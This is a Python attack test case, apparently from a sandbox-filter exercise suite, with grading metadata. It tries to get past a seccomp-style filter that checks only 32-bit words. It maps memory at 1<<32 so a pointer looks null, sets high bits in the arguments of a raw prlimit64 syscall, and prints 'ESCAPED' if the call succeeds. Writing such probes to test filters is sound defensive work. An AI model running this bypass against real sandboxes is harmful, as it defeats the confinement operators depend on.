# /// attack
# tries = "Raises a limit from an address that looks like none to a filter of 32-bit words."
# exercise = "ex02_zero_padding"
# answers = "right"
# points = "all"
# outcomes = ["passed"]
# ///
import ctypes
import platform
import struct

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_ssize_t
_ADDRESS, _FIXED_ANONYMOUS_PRIVATE = 1 << 32, 0x100022
_NOFILE = 7


def _attempt():
    at = _libc.mmap(
        *(ctypes.c_ulong(_ADDRESS), ctypes.c_ulong(4096), 3, _FIXED_ANONYMOUS_PRIVATE, -1),
        ctypes.c_long(0),
    )
    if at != _ADDRESS:
        return
    ctypes.memmove(_ADDRESS, struct.pack("<QQ", 10, 10), 16)
    for process in (0, 1 << 32):
        got = _libc.syscall(
            *(302, ctypes.c_ulong(process), ctypes.c_ulong((1 << 32) | _NOFILE)),
            *(ctypes.c_ulong(_ADDRESS), None),
        )
        if got == 0:
            print("ESCAPED", process)


if platform.machine() == "x86_64":
    _attempt()
